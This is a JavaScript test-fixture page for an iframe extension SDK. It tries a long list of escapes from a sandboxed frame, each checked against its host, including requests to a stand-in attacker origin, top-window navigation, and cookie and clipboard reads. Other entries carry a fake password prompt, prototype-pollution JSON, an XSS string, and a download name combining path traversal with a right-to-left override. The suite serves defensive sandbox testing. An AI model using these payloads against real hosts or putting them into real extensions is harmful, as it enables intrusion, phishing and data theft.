/** Pages that try what they must not. Each returns what came of it; the tests say what must come of it. */

import { connect, HostLinkError } from "@alga/extension-iframe-sdk";
import { message, toBase64 } from "@alga/extension-iframe-sdk/protocol";

/** What the page does that "speaks as a frame inside it" frames. */
const NESTED = "speaks to the window above";
const parameters = new URLSearchParams(location.search);
const evil = parameters.get("evil");
const hostOrigin = parameters.get("parentOrigin");

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const report = (value) => parent.postMessage({ report: value }, "*");
/** The value of an attempt, or the name of its error. */
const attempt = async (work) => {
  try {
    return String(await work());
  } catch (error) {
    return error instanceof HostLinkError ? error.code : error.name;
  }
};
/** "load" or "error", whichever an element has. */
const outcome = (element) =>
  new Promise((resolve) => {
    for (const name of ["load", "error"]) element.addEventListener(name, () => resolve(name));
    document.body.append(element);
    setTimeout(resolve, 1_000, "nothing");
  });
const make = (name, members) => Object.assign(document.createElement(name), members);

/** Say `ready` and return the port of the answer, or undefined. */
const port = (said = message("ready", {}), withinMs = 5_000) =>
  new Promise((resolve) => {
    addEventListener("message", ({ ports: [got] }) => got && resolve(got));
    parent.postMessage(said, "*");
    setTimeout(resolve, withinMs);
  });
/** Ask over a port, and return the payload of the answer or "no answer". */
const ask = (over, type, payload, withinMs = 5_000) =>
  new Promise((resolve) => {
    const id = String(Math.random());
    over.addEventListener("message", ({ data }) => data.request_id === id && resolve(data.payload));
    over.start();
    over.postMessage(message(type, payload, id));
    setTimeout(resolve, withinMs, "no answer");
  });

const attempts = {
  "reads the host's document": () => attempt(() => parent.document.title),
  "reads the host's address": () => attempt(() => parent.location.href),
  "writes a member of the host's window": () =>
    attempt(() => {
      parent.stolen = true;
    }),
  "navigates the host by its location": () =>
    attempt(() => {
      top.location.href = `${evil}/top`;
    }),
  "navigates the host by replacing": () => attempt(() => top.location.replace(`${evil}/top`)),
  "navigates the host by a link": async () => {
    make("a", { href: `${evil}/link`, target: "_top" }).click();
    await sleep(200);
    return "still here";
  },
  "navigates the host to a script": () =>
    attempt(() => {
      top.location.href = "javascript:globalThis.stolen=1";
    }),
  "opens a window": () => attempt(() => window.open(`${evil}/window`)),
  "opens a window by a link": async () => {
    const link = make("a", { href: `${evil}/blank`, target: "_blank" });
    document.body.append(link);
    link.click();
    await sleep(200);
    return "still here";
  },
  "submits a form": async () => {
    const form = make("form", { action: `${evil}/form`, method: "post" });
    document.body.append(form);
    form.submit();
    await sleep(200);
    return "still here";
  },
  "reads cookies": () => attempt(() => document.cookie),
  "writes cookies": () =>
    attempt(() => {
      // biome-ignore lint/suspicious/noDocumentCookie: the test is about it
      document.cookie = "a=b";
    }),
  "uses local storage": () => attempt(() => localStorage.setItem("a", "b")),
  "uses session storage": () => attempt(() => sessionStorage.length),
  "opens a database": () =>
    attempt(() => new Promise((_, reject) => Object.assign(indexedDB.open("a"), { onerror: reject }))),
  "uses the cache": () => attempt(() => caches.open("a")),
  "registers a service worker": () => attempt(() => navigator.serviceWorker.register("app.js")),
  "fetches from the attacker": () => attempt(async () => (await fetch(`${evil}/fetch`)).status),
  "fetches from the host": () => attempt(async () => (await fetch(`${hostOrigin}/hits`)).status),
  "sends a beacon": async () => {
    await attempt(() => navigator.sendBeacon(`${evil}/beacon`, "x"));
    await sleep(200);
    return "sent nothing";
  },
  "opens a web socket": () =>
    attempt(
      () =>
        new Promise((resolve) => {
          const socket = new WebSocket(`${evil.replace("http", "ws")}/socket`);
          socket.onopen = () => resolve("open");
          socket.onerror = () => resolve("error");
        }),
    ),
  "listens to events of the attacker": () =>
    attempt(
      () =>
        new Promise((resolve) => Object.assign(new EventSource(`${evil}/events`), { onerror: () => resolve("error") })),
    ),
  "shows a picture of the attacker": () => outcome(make("img", { src: `${evil}/picture` })),
  "loads a script of the attacker": () => outcome(make("script", { src: `${evil}/script.js` })),
  "runs a script that stands in the page": () => {
    document.body.append(make("script", { textContent: "globalThis.ran = true" }));
    return globalThis.ran === true;
  },
  "evaluates text": () => attempt(() => new Function("return 1")()),
  "frames the attacker": async () => {
    document.body.append(make("iframe", { src: `${evil}/nested` }));
    await sleep(300);
    return "still here";
  },
  "goes to the attacker": async () => {
    location.href = `${evil}/away`;
    await sleep(300);
    return "still here";
  },
  "starts a worker of the attacker": () =>
    attempt(
      () =>
        new Promise((resolve) => Object.assign(new Worker(`${evil}/worker.js`), { onerror: () => resolve("error") })),
    ),
  "asks with a dialog of the browser": () => attempt(() => confirm("Your password?")),
  "asks where the user is": () =>
    attempt(
      () =>
        new Promise((resolve) =>
          navigator.geolocation.getCurrentPosition(
            () => resolve("here"),
            () => resolve("denied"),
          ),
        ),
    ),
  "reads the clipboard": () => attempt(() => navigator.clipboard.readText()),
  "fills the screen": () => attempt(() => document.documentElement.requestFullscreen()),

  "speaks without the envelope": async () => String(await port({ type: "ready", payload: {} }, 400)),
  "speaks another version": async () => String(await port({ ...message("ready", {}), version: "2" }, 400)),
  "speaks as a frame inside it": async () => {
    const nested = make("iframe", {
      src: `${location.pathname}?do=${encodeURIComponent("speaks to the window above")}`,
    });
    document.body.append(nested);
    return new Promise((resolve) => {
      addEventListener("message", ({ data }) => data.report !== undefined && resolve(data.report));
      setTimeout(resolve, 2_000, "no report from inside");
    });
  },
  "speaks to the window above": async () => {
    addEventListener("message", ({ ports }) => parent.postMessage({ report: `got ${ports.length} ports` }, "*"));
    top.postMessage(message("ready", {}), "*");
    await sleep(400);
    return "no port";
  },
  "speaks to the good frame as its host": async () => {
    const { port1 } = new MessageChannel();
    const bootstrap = message("bootstrap", { theme_tokens: { primary: "stolen" }, navigation: { path: "/" } });
    for (let at = 0; at < parent.frames.length; at++)
      parent.frames[at].postMessage(bootstrap, "*", [new MessageChannel().port2]);
    port1.close();
    return "sent";
  },
  "collects ports": async () => {
    const [first, second] = [await port(), await port()];
    return `${JSON.stringify(await ask(first, "apiproxy", { route: "/first" }, 400))}, ${(await ask(second, "apiproxy", { route: "/second" })).status}`;
  },
  "gives its port to the good frame": async () => {
    const got = await port();
    const bootstrap = message("bootstrap", { theme_tokens: {}, navigation: { path: "/" } });
    for (let at = 0; at < parent.frames.length; at++) {
      if (parent.frames[at] !== self) parent.frames[at].postMessage(bootstrap, "*", [got]);
    }
    return "sent";
  },
  "floods its port": async () => {
    const got = await port();
    for (let count = 0; count < 5_000; count++) got.postMessage(message("navigate", { path: `/flood/${count}` }));
    return "sent";
  },
  "floods the window": () => {
    report("sent"); // first, because the frame may be empty before it could report
    for (let count = 0; count < 5_000; count++) parent.postMessage(message("ready", {}), "*");
    return new Promise(() => undefined);
  },
  "calls above its extension": async () => {
    const got = await port();
    const routes = ["/../other", "//evil.example", "/%2e%2e/x", "https://evil.example/", "/a\\b", "x", "/a/./b"];
    return (await Promise.all(routes.map((route) => ask(got, "apiproxy", { route }, 400)))).join(", ");
  },
  "sets the header authorization": async () => {
    const host = await connect();
    return attempt(() => host.call("/x", { headers: { Authorization: "Bearer mine" } }));
  },
  "sends a body above the limit": async () => {
    const host = await connect();
    return attempt(() => host.call("/x", { body: new Uint8Array(4 * 1024 * 1024 + 4) }));
  },
  "sends a body that is not base64": async () =>
    (await ask(await port(), "apiproxy", { route: "/x", method: "POST", body: "%%" })).error,
  "makes 40 calls at once": async () => {
    const host = await connect();
    const made = await Promise.allSettled(
      Array.from({ length: 40 }, (_, at) => host.call(`/slow/${at}`, { timeoutMs: 600 })),
    );
    return made.filter(({ reason }) => reason?.code === "too_many_calls").length;
  },
  "asks for impossible heights": async () => {
    const got = await port();
    for (const height of [1e9, -5, 0, Number.NaN, Infinity, "900", { valueOf: 5 }])
      got.postMessage(message("resize", { height }));
    return "sent";
  },
  "pollutes prototypes": async () => {
    const got = await port();
    const polluting = JSON.parse(
      '{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}',
    );
    got.postMessage({ ...message("navigate", { path: "/x", ...polluting }), ...polluting });
    got.postMessage(message("resize", polluting));
    return (
      await ask(got, "apiproxy", { route: "/x", headers: JSON.parse('{"__proto__": "yes", "constructor": "yes"}') })
    ).status;
  },
  "draws HTML": async () => {
    const host = await connect();
    host.notify("<img src=x onerror=alert(1)><b>bold</b>\u202eevil", "danger");
    await sleep(200);
    return "sent";
  },
  "asks fifty questions": async () => {
    const host = await connect();
    const answers = await Promise.all(
      Array.from({ length: 50 }, () => attempt(() => host.confirm("Sure?", "Yes", AbortSignal.timeout(500)))),
    );
    return [...new Set(answers)].sort().join(", ");
  },
  "offers a file above the limit": async () => {
    const got = await port();
    return (await ask(got, "download", { name: "x", body: "A".repeat(14_000_000) }, 3_000)).error;
  },
  "offers a file with a path": async () => {
    const got = await port();
    await ask(got, "download", { name: "../../\u202egpj.exe", body: toBase64(new Uint8Array(3)) }, 300);
    return "sent";
  },
  "calls and is removed": async () => {
    const host = await connect();
    host.call("/slow/removed").catch(() => undefined);
    return "sent";
  },
  "speaks as an old page": async () => {
    addEventListener("message", ({ data }) => report(`got ${data.type}`));
    parent.postMessage({ alga: true, version: "1", type: "ready" }, "*");
    parent.postMessage(message("apiproxy", { route: "/old" }, "1"), "*");
    await sleep(300);
    return "no answer";
  },
};

const name = parameters.get("do");
if (name === "names") report(Object.keys(attempts).filter((attempted) => attempted !== NESTED));
else Promise.resolve(attempts[name]()).then(report, (error) => report(`${error}`));
